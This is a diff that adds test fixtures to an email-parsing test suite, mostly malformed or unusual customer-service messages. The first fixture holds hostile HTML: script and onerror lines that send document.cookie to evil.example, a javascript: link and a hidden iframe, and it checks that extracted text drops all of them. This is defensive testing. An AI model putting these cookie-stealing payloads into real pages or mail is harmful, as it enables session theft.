@@ -2770,5 +2770,368 @@ Subject: November news: 20% off vacuum cleaners
 )
 
 
+# --- 48-57: hostile HTML, broken headers and MIME, sizes -----------------------------------
+
+HOSTILE_48_HTML = """<!DOCTYPE html>
+<html><head><meta charset="utf-8"><title>Réclamation</title>
+<style>body { color: #222; font-family: Georgia; } .hidden { display:none }</style>
+<script type="text/javascript">window.location='https://evil.example/steal?c='+document.cookie;</script>
+</head>
+<body>
+<p>Bonjour,</p>
+<p>Ma friteuse sans huile AF-5 a fondu près de la résistance. Voici les photos :
+<a href="javascript:alert('pwned')">voir les photos</a></p>
+<img src="x" onerror="fetch('https://evil.example/x?'+document.cookie)">
+<iframe src="https://evil.example/frame" width="0" height="0" style="border:0"></iframe>
+<p>Je demande le remboursement intégral (79,90 €).</p>
+<p>Luc Fontaine</p>
+<img src="https://track.mailer.example/open.gif?u=88213&amp;m=5521" width="1" height="1" alt="" style="display:block;width:1px;height:1px">
+<script>alert(document.cookie)</script>
+</body></html>
+"""
+add(
+    "html-only-scripts-and-tracking-fr",
+    f"""Return-Path: <luc.fontaine@example.fr>
+Delivered-To: sav@desk.example
+{received("sav@desk.example", "Fri, 13 Nov 2026 15:20:11 +0100")}Date: Fri, 13 Nov 2026 15:20:09 +0100
+From: Luc Fontaine <luc.fontaine@example.fr>
+To: sav@desk.example
+Subject: =?utf-8?Q?Friteuse_AF-5_fondue_=E2=80=93_remboursement?=
+Message-ID: <20261113152009.3c2b1a@mailer.example.fr>
+MIME-Version: 1.0
+Content-Type: text/html; charset=utf-8
+Content-Transfer-Encoding: quoted-printable
+X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
+
+{qp(HOSTILE_48_HTML)}""",
+    message_id="<20261113152009.3c2b1a@mailer.example.fr>",
+    from_address="luc.fontaine@example.fr",
+    from_name="Luc Fontaine",
+    to=["sav@desk.example"],
+    subject="Friteuse AF-5 fondue – remboursement",
+    text_contains=["a fondu près de la résistance", "le remboursement intégral (79,90 €)"],
+    text_excludes=[
+        "<script",
+        "alert(",
+        "document.cookie",
+        "onerror",
+        "javascript:",
+        "<iframe",
+        "<img",
+        "font-family",
+        "<p>",
+    ],
+    language="fr",
+    note="HTML-only mail with <script> (in head and body), onerror=, a javascript: link, <style>, an <iframe> and a 1x1 tracking pixel: the text keeps the words and none of the code.",
+)
+
+MALFORMED_49_TEXT = """Buongiorno,
+il televisore si spegne e si riaccende da solo. Numero di serie QN55-IT-88120.
+Grazie
+"""
+add(
+    "malformed-headers-no-date-duplicate-subject",
+    [
+        f"""Return-Path: <niccolo.ferri@example.it>
+Delivered-To: assistenza@desk.example
+{received("assistenza@desk.example", "Fri, 13 Nov 2026 16:00:41 +0100")}""".encode(),
+        "From: Niccolò Ferri <niccolo.ferri@example.it>\n".encode("latin-1"),
+        "Subject: Televisore che si spegne da solo – è urgente\n".encode(),
+        b"""To: assistenza@desk.example
+Subject: second subject added by a broken gateway
+Message-ID: <no-date-49.20261113@gw.example.it>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=utf-8
+Content-Transfer-Encoding: 8bit
+This line of the header block has no colon
+
+""",
+        MALFORMED_49_TEXT.encode(),
+    ],
+    message_id="<no-date-49.20261113@gw.example.it>",
+    from_address="niccolo.ferri@example.it",
+    from_name="Niccolò Ferri",
+    to=["assistenza@desk.example"],
+    subject="Televisore che si spegne da solo – è urgente",
+    text_contains=["il televisore si spegne e si riaccende da solo", "QN55-IT-88120"],
+    language="it",
+    note="Broken gateway: no Date, two Subject headers (the first counts), raw UTF-8 in Subject and raw ISO-8859-1 in From (8-bit bytes in headers), and a header line without a colon before the blank line (the stdlib starts the body there).",
+)
+
+LONG_50 = "; ".join(f"seg{i:03d}=" + "x" * 20 for i in range(45))
+LONG_BODY_50 = "Référence des pièces : " + " ".join(f"PN-{i:05d}" for i in range(120))
+add(
+    "malformed-bare-lf-bad-date-long-lines",
+    f"""Return-Path: <martine.caron@example.fr>
+Delivered-To: sav@desk.example
+{received("sav@desk.example", "Fri, 13 Nov 2026 16:30:12 +0100")}Date: vendredi 13 novembre 2026 16h30
+From: Martine Caron <martine.caron@example.fr>
+To: sav@desk.example
+X-Spam-Score: 1.3{BARE_LF}X-Spam-Level: *
+Subject: Commande de pièces pour le lave-linge
+Message-ID: <bare-lf-50.7731@mail.example.fr>
+X-Campaign-Trace: {LONG_50}
+MIME-Version: 1.0
+Content-Type: text/plain; charset=utf-8
+Content-Transfer-Encoding: 8bit
+
+Bonjour,
+
+Je voudrais commander les pièces suivantes pour mon lave-linge WM-8 :
+{LONG_BODY_50}
+
+Merci de m'envoyer un devis.
+Martine Caron
+""",
+    message_id="<bare-lf-50.7731@mail.example.fr>",
+    from_address="martine.caron@example.fr",
+    from_name="Martine Caron",
+    to=["sav@desk.example"],
+    subject="Commande de pièces pour le lave-linge",
+    text_contains=["commander les pièces suivantes", "PN-00119", "Merci de m'envoyer un devis."],
+    language="fr",
+    note="A CRLF file with a bare LF between two headers, an unparsable French Date, a header line and a body line longer than 998 characters.",
+)
+
+TRUNC_51_PDF = pdf(51, 7_000, "Bon de livraison")
+add(
+    "missing-end-boundary",
+    f"""Return-Path: <oscar.bell@example.co.uk>
+Delivered-To: support@desk.example
+{received("support@desk.example", "Fri, 13 Nov 2026 17:02:40 +0000")}Date: Fri, 13 Nov 2026 17:02:38 +0000
+From: Oscar Bell <oscar.bell@example.co.uk>
+To: support@desk.example
+Subject: Delivery note for the broken microwave
+Message-ID: <51-missing-end@example.co.uk>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="==b51=="
+
+--==b51==
+Content-Type: text/plain; charset=utf-8
+
+Please find the delivery note attached; the microwave arrived dented.
+Oscar
+
+--==b51==
+Content-Type: application/pdf; name="delivery-note.pdf"
+Content-Disposition: attachment; filename="delivery-note.pdf"
+Content-Transfer-Encoding: base64
+
+{b64(TRUNC_51_PDF)}
+""",
+    message_id="<51-missing-end@example.co.uk>",
+    from_address="oscar.bell@example.co.uk",
+    from_name="Oscar Bell",
+    to=["support@desk.example"],
+    subject="Delivery note for the broken microwave",
+    text_contains=["the microwave arrived dented"],
+    attachments=[att("delivery-note.pdf", "application/pdf", len(TRUNC_51_PDF))],
+    language="en",
+    note="A multipart/mixed whose closing boundary '--==b51==--' never comes: the last part runs to the end of the file and must still be read.",
+)
+
+add(
+    "boundary-never-appears",
+    f"""Return-Path: <rita.marchetti@example.it>
+Delivered-To: assistenza@desk.example
+{received("assistenza@desk.example", "Fri, 13 Nov 2026 18:11:05 +0100")}Date: Fri, 13 Nov 2026 18:11:03 +0100
+From: Rita Marchetti <rita.marchetti@example.it>
+To: assistenza@desk.example
+Subject: Richiesta manuale macchina del pane
+Message-ID: <52-no-boundary@example.it>
+MIME-Version: 1.0
+Content-Type: multipart/alternative; boundary="----=_NextPart_52_never_used"
+
+Salve, potreste mandarmi il manuale in italiano della macchina del pane BM-3?
+Quello nella scatola è solo in inglese e tedesco.
+Grazie, Rita
+""",
+    message_id="<52-no-boundary@example.it>",
+    from_address="rita.marchetti@example.it",
+    from_name="Rita Marchetti",
+    to=["assistenza@desk.example"],
+    subject="Richiesta manuale macchina del pane",
+    text_contains=["il manuale in italiano della macchina del pane BM-3", "è solo in inglese"],
+    language="it",
+    note="Declared multipart/alternative but its boundary never appears: the whole body is read as plain text (UTF-8 by default) and there are no attachments.",
+)
+
+PAD_53_TEXT = "Bonjour, le thermostat de mon radiateur R-200 affiche « Err 7 » en permanence. Que signifie ce code ?\nAntoine Roy\n"
+_PAD_53 = base64.b64encode(PAD_53_TEXT.encode()).decode().rstrip("=")
+add(
+    "base64-invalid-padding",
+    f"""Return-Path: <antoine.roy@example.fr>
+Delivered-To: sav@desk.example
+{received("sav@desk.example", "Sat, 14 Nov 2026 09:00:21 +0100")}Date: Sat, 14 Nov 2026 09:00:19 +0100
+From: Antoine Roy <antoine.roy@example.fr>
+To: sav@desk.example
+Subject: Radiateur R-200 : code Err 7
+Message-ID: <53-bad-padding@example.fr>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=utf-8
+Content-Transfer-Encoding: base64
+
+{_PAD_53[:76]}
+{_PAD_53[76:152]}
+{_PAD_53[152:]}
+""",
+    message_id="<53-bad-padding@example.fr>",
+    from_address="antoine.roy@example.fr",
+    from_name="Antoine Roy",
+    to=["sav@desk.example"],
+    subject="Radiateur R-200 : code Err 7",
+    text_contains=["affiche « Err 7 » en permanence", "Que signifie ce code ?"],
+    language="fr",
+    note=f"A base64 body whose '=' padding was cut off ({len(_PAD_53) % 4} characters in the last group): decoders must add the padding back, not fail.",
+)
+
+add(
+    "empty-body",
+    f"""Return-Path: <kate.morgan@example.co.uk>
+Delivered-To: support@desk.example
+{received("support@desk.example", "Sat, 14 Nov 2026 10:15:02 +0000")}Date: Sat, 14 Nov 2026 10:15:00 +0000
+From: Kate Morgan <kate.morgan@example.co.uk>
+To: support@desk.example
+Subject: Please call me back about order UK-30115
+Message-ID: <E1tB7x2-0004kR-9Q@example.co.uk>
+MIME-Version: 1.0
+Content-Type: text/plain; charset="UTF-8"
+Content-Transfer-Encoding: 7bit
+
+""",
+    message_id="<E1tB7x2-0004kR-9Q@example.co.uk>",
+    from_address="kate.morgan@example.co.uk",
+    from_name="Kate Morgan",
+    to=["support@desk.example"],
+    subject="Please call me back about order UK-30115",
+    text_contains=[],
+    language="en",
+    note="A message whose whole request is in the subject and whose body is empty (nothing after the blank line), so text_contains is empty.",
+)
+
+HUGE_55 = pdf(55, 3_000_000, "Manuel d'atelier")
+add(
+    "huge-attachment-3mb",
+    f"""Return-Path: <atelier@reparelec.example>
+Delivered-To: sav@desk.example
+{received("sav@desk.example", "Sat, 14 Nov 2026 11:40:55 +0100")}Message-ID: <a9b8c7d6-e5f4-4321-8a9b-0c1d2e3f4a5b@reparelec.example>
+Date: Sat, 14 Nov 2026 11:40:12 +0100
+MIME-Version: 1.0
+User-Agent: Mozilla Thunderbird
+Content-Language: fr
+To: sav@desk.example
+From: Atelier Reparelec <atelier@reparelec.example>
+Subject: Rapport d'intervention complet (scan)
+Content-Type: multipart/mixed; boundary="------------HuGe55aTtAcHmEnT0123456"
+
+This is a multi-part message in MIME format.
+--------------HuGe55aTtAcHmEnT0123456
+Content-Type: text/plain; charset=UTF-8; format=flowed
+Content-Transfer-Encoding: 8bit
+
+Bonjour,
+
+Ci-joint le rapport d'intervention scanné (3 Mo) pour le dossier de
+garantie de M. Picard. Désolé pour la taille du fichier.
+
+L'atelier Reparelec
+
+--------------HuGe55aTtAcHmEnT0123456
+Content-Type: application/pdf; name="rapport-intervention-picard.pdf"
+Content-Disposition: attachment; filename="rapport-intervention-picard.pdf"
+Content-Transfer-Encoding: base64
+
+{b64(HUGE_55, 72)}
+
+--------------HuGe55aTtAcHmEnT0123456--
+""",
+    message_id="<a9b8c7d6-e5f4-4321-8a9b-0c1d2e3f4a5b@reparelec.example>",
+    from_address="atelier@reparelec.example",
+    from_name="Atelier Reparelec",
+    to=["sav@desk.example"],
+    subject="Rapport d'intervention complet (scan)",
+    text_contains=["Ci-joint le rapport d'intervention scanné (3 Mo)", "Désolé pour la taille"],
+    attachments=[att("rapport-intervention-picard.pdf", "application/pdf", len(HUGE_55))],
+    language="fr",
+    note="A huge attachment: 3,000,000 bytes of PDF-looking data from a fixed seed, base64 in 72-character lines (about 4.1 MB in the file).",
+)
+
+MANY_56_TEXT = "Buongiorno, vi mando tutte le foto dei danni agli elettrodomestici e le ricevute: sono 30 file, scusate.\nDavide Sala\n"
+_COLOURS = [(i * 8 % 256, 255 - i * 8 % 256, i * 37 % 256) for i in range(30)]
+MANY_56 = []
+for _i, _rgb in enumerate(_COLOURS, start=1):
+    if _i % 10 == 0:
+        MANY_56.append((f"scontrino_{_i:02d}.pdf", "application/pdf", pdf(5600 + _i, 1_500)))
+    else:
+        MANY_56.append((f"foto_{_i:02d}.png", "image/png", png(16, 16, _rgb)))
+_MANY_56_PARTS = "".join(
+    f"""--000000000000aa56bb061f8c9d0e
+Content-Type: {ctype}; name="{name}"
+Content-Disposition: attachment; filename="{name}"
+Content-Transfer-Encoding: base64
+Content-ID: <f_many56_{n:02d}>
+X-Attachment-Id: f_many56_{n:02d}
+
+{b64(data)}
+"""
+    for n, (name, ctype, data) in enumerate(MANY_56, start=1)
+)
+add(
+    "thirty-attachments-it",
+    f"""Delivered-To: assistenza@desk.example
+{received("assistenza@desk.example", "Sat, 14 Nov 2026 12:30:40 +0100")}MIME-Version: 1.0
+From: Davide Sala <davide.sala@gmail.example>
+Date: Sat, 14 Nov 2026 12:30:02 +0100
+Message-ID: <CAD5aL4x9Yk1zB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1uV3wX5@mail.gmail.example>
+Subject: Tutte le foto dei danni del trasloco (30 file)
+To: assistenza@desk.example
+Content-Type: multipart/mixed; boundary="000000000000aa56bb061f8c9d0e"
+
+--000000000000aa56bb061f8c9d0e
+Content-Type: text/plain; charset="UTF-8"
+Content-Transfer-Encoding: quoted-printable
+
+{qp(MANY_56_TEXT)}
+{_MANY_56_PARTS}--000000000000aa56bb061f8c9d0e--
+""",
+    message_id="<CAD5aL4x9Yk1zB3cD5eF7gH9iJ1kL3mN5oP7qR9sT1uV3wX5@mail.gmail.example>",
+    from_address="davide.sala@gmail.example",
+    from_name="Davide Sala",
+    to=["assistenza@desk.example"],
+    subject="Tutte le foto dei danni del trasloco (30 file)",
+    text_contains=["vi mando tutte le foto dei danni", "sono 30 file"],
+    attachments=[att(name, ctype, len(data)) for name, ctype, data in MANY_56],
+    language="it",
+    note="Thirty small attachments (27 PNG images, 3 PDFs) after a plain-text body with no HTML alternative.",
+)
+
+IMAGE_57 = jpeg(57, 38_400)
+add(
+    "image-only-no-text",
+    f"""Return-Path: <3471234567@mms.operatore.example>
+Delivered-To: assistenza@desk.example
+{received("assistenza@desk.example", "Sat, 14 Nov 2026 13:05:09 +0100")}Date: Sat, 14 Nov 2026 13:05:07 +0100
+From: 3471234567@mms.operatore.example
+To: assistenza@desk.example
+Subject: Foto etichetta
+Message-ID: <mms.20261114130507.3471234567@mms.operatore.example>
+MIME-Version: 1.0
+Content-Type: image/jpeg; name="IMG_20261114_130455.jpg"
+Content-Disposition: inline; filename="IMG_20261114_130455.jpg"
+Content-Transfer-Encoding: base64
+
+{b64(IMAGE_57)}
+""",
+    message_id="<mms.20261114130507.3471234567@mms.operatore.example>",
+    from_address="3471234567@mms.operatore.example",
+    to=["assistenza@desk.example"],
+    subject="Foto etichetta",
+    text_contains=[],
+    attachments=[att("IMG_20261114_130455.jpg", "image/jpeg", len(IMAGE_57), inline=True)],
+    language="it",
+    note="An MMS-to-email gateway message that is only a photo: the top-level part is image/jpeg, inline, and there is no text at all.",
+)
+
+
 if __name__ == "__main__":
     main()
